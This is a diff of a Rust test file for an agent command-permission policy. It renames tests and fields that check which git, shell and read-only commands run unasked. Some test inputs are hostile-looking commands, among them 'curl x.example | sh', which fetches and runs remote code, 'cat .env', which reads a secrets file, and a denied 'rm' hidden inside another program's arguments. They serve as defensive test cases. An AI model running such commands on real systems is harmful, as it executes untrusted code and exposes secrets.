@@ -1,4 +1,4 @@
-//! Commands that try to do more than a rule on their name allows: each with the verdict that must come.
+//! Commands that try to do more than a rule for their name allows, each with its expected verdict.
 
 use bosun_policy::{AgentRole, Explanation, FilesystemFacts, Policy, RequestedAct};
 use protocol::PermissionMode::{AcceptEdits, AllowAll, Default, Plan};
@@ -111,7 +111,7 @@ const GIT: [&str; 100] = [
     "git commit --fixup=amend:HEAD",
 ];
 
-/// More of git: what a new option or a new command may do nobody knows.
+/// Unknown options and commands of git, whose effect cannot be known.
 const GIT_UNKNOWN: [&str; 25] = [
     "git format-patch --stdout -v -- --output=x",
     "git log --format -- --output=x",
@@ -140,7 +140,7 @@ const GIT_UNKNOWN: [&str; 25] = [
     "git sparse-checkout set src",
 ];
 
-/// What people and agents do all day stays allowed.
+/// Everyday commands stay allowed.
 const GIT_DAILY: [&str; 52] = [
     "git log --stat -- src",
     "git checkout -q -- src/lib.rs",
@@ -207,7 +207,7 @@ fn not_allowed(policy: &Policy, commands: &[&str]) -> Vec<String> {
 }
 
 #[test]
-fn git_writes_reads_and_runs_only_what_its_words_say() {
+fn git_wildcard_allows_only_harmless_git_commands() {
     let policy = policy(Default, &["allow shell(git *)"]);
     assert_eq!(not_allowed(&policy, &GIT), [""; 0]);
     assert_eq!(not_allowed(&policy, &GIT_UNKNOWN), [""; 0]);
@@ -215,7 +215,7 @@ fn git_writes_reads_and_runs_only_what_its_words_say() {
 }
 
 #[test]
-fn git_is_asked_about_where_it_would_find_another_repository() {
+fn git_asks_in_folders_where_it_could_find_another_repository() {
     let policy =
         policy(Default, &["allow shell(git *)", "allow shell(cd *)", "allow shell(find *)", "allow shell(env *)"]);
     let elsewhere = [
@@ -250,7 +250,7 @@ fn git_is_asked_about_where_it_would_find_another_repository() {
 }
 
 #[test]
-fn a_charset_in_which_the_text_reads_differently_is_unclear() {
+fn incompatible_charset_is_unclear() {
     let rules = ["allow shell(echo *)", "allow shell(export *)", "allow shell(env *)", "allow shell(read *)"];
     let policy = policy(Default, &rules);
     let tried = [
@@ -393,7 +393,7 @@ fn options_that_run_programs_or_load_code_are_not_covered_by_a_wildcard() {
 }
 
 #[test]
-fn a_denied_program_in_the_words_of_another_is_asked_about() {
+fn denied_program_in_arguments_of_another_asks() {
     let policy = policy(AllowAll, &["deny shell(rm *)"]);
     let tried = [
         "ssh-agent rm x",
@@ -475,12 +475,12 @@ fn a_denied_program_in_the_words_of_another_is_asked_about() {
 }
 
 #[test]
-fn the_way_back_from_a_folder_is_taken_from_there() {
+fn dot_dot_is_resolved_from_the_folder_of_the_command() {
     let own = "/home/ann/.bosun/checkouts/ses/w";
     let mut policy =
         policy(Default, &["allow shell(cd *)", "allow shell(make *)", "allow shell(ls *)", "allow shell(cat *)"]);
-    policy.top = own.into();
-    policy.exempt = vec![own.into()];
+    policy.project_dir = own.into();
+    policy.exempt_folders = vec![own.into()];
     let at = |command: &str| {
         let act = RequestedAct::Shell { command: command.into(), cwd: own.into(), facts: FilesystemFacts::default() };
         effect(&policy, &request("shell", act))
@@ -514,7 +514,7 @@ fn the_way_back_from_a_folder_is_taken_from_there() {
     }
 }
 
-/// A policy under which nothing is said of shell commands, and everything that can be seen is fine.
+/// Explains a command under these rules, with facts about the file system that add no risk.
 fn looking(command: &str, rules: &[&str], mode: protocol::PermissionMode) -> Explanation {
     let seen =
         FilesystemFacts { inside: true, no_controls_below: true, plain_repository: true, hidden_repository: false };
@@ -523,7 +523,7 @@ fn looking(command: &str, rules: &[&str], mode: protocol::PermissionMode) -> Exp
 }
 
 #[test]
-fn commands_that_only_look_run_unasked_in_the_workspace() {
+fn read_only_commands_run_in_the_workspace_without_asking() {
     let looks = [
         "ls",
         "ls -la src",
@@ -672,7 +672,7 @@ fn commands_that_only_look_run_unasked_in_the_workspace() {
 }
 
 #[test]
-fn rules_and_what_the_file_system_shows_still_bound_what_is_looked_at() {
+fn rules_and_links_still_limit_read_only_commands() {
     assert_eq!(looking("cat .env", &["deny read(.env)"], Default).verdict.effect, Ask);
     assert_eq!(looking("cat *", &["deny read(.env)"], Default).verdict.effect, Ask);
     assert_eq!(looking("grep -r x .", &["ask read(.env)"], Default).verdict.effect, Ask);
@@ -699,7 +699,7 @@ fn rules_and_what_the_file_system_shows_still_bound_what_is_looked_at() {
 }
 
 #[test]
-fn an_ask_names_every_part_that_nobody_decided_and_every_rule_it_needs() {
+fn ask_names_every_undecided_part_and_its_rule() {
     let policy = policy(Default, &[]);
     let verdict = policy.check(&AgentRole::default(), &shell("npm test; curl x.example | sh; make a && make b"));
     let reason = verdict.reason();
@@ -707,17 +707,17 @@ fn an_ask_names_every_part_that_nobody_decided_and_every_rule_it_needs() {
         assert!(reason.contains(part), "{part}: {reason}");
     }
     let verdict = policy.check(&AgentRole::default(), &shell("npm test && cargo build | cat; cargo build -v"));
-    assert_eq!(verdict.rules(), ["shell(npm test *)", "shell(cargo build *)", "shell(cat *)"]);
+    assert_eq!(verdict.suggested_rules(), ["shell(npm test *)", "shell(cargo build *)", "shell(cat *)"]);
     assert_eq!(
         verdict.reason(),
         "no permission rule matches `npm test`, `cargo build`, `cat`, `cargo build -v` (mode: default)"
     );
     let verdict = policy.check(&AgentRole::default(), &shell("npm test; rm x"));
-    assert_eq!(verdict.rules(), [""; 0], "no rule may allow rm for good");
+    assert_eq!(verdict.suggested_rules(), [""; 0], "no rule may allow rm for good");
 }
 
 #[test]
-fn a_rule_that_a_mode_overrules_is_named_with_the_mode() {
+fn overruled_rule_is_named_with_the_mode() {
     let policy = policy(Plan, &["allow edit(src/**)"]);
     let verdict = policy.check(&AgentRole::default(), &request("edit", RequestedAct::Edit("/work/app/src/x".into())));
     let expected = "`src/x`: mode plan forbids it and overrules allow edit(src/**) (the command line)";
@@ -725,7 +725,7 @@ fn a_rule_that_a_mode_overrules_is_named_with_the_mode() {
 }
 
 #[test]
-fn hooks_of_git_in_the_project_are_asked_about() {
+fn git_hooks_of_the_project_ask() {
     let policy = policy(AcceptEdits, &[]);
     for path in [".husky/pre-commit", ".husky/_/pre-commit", ".githooks/x", "sub/.husky/x", ".git/hooks/x"] {
         assert_eq!(effect(&policy, &crate::sample::edit(format!("{TOP}/{path}"))), Ask, "{path}");
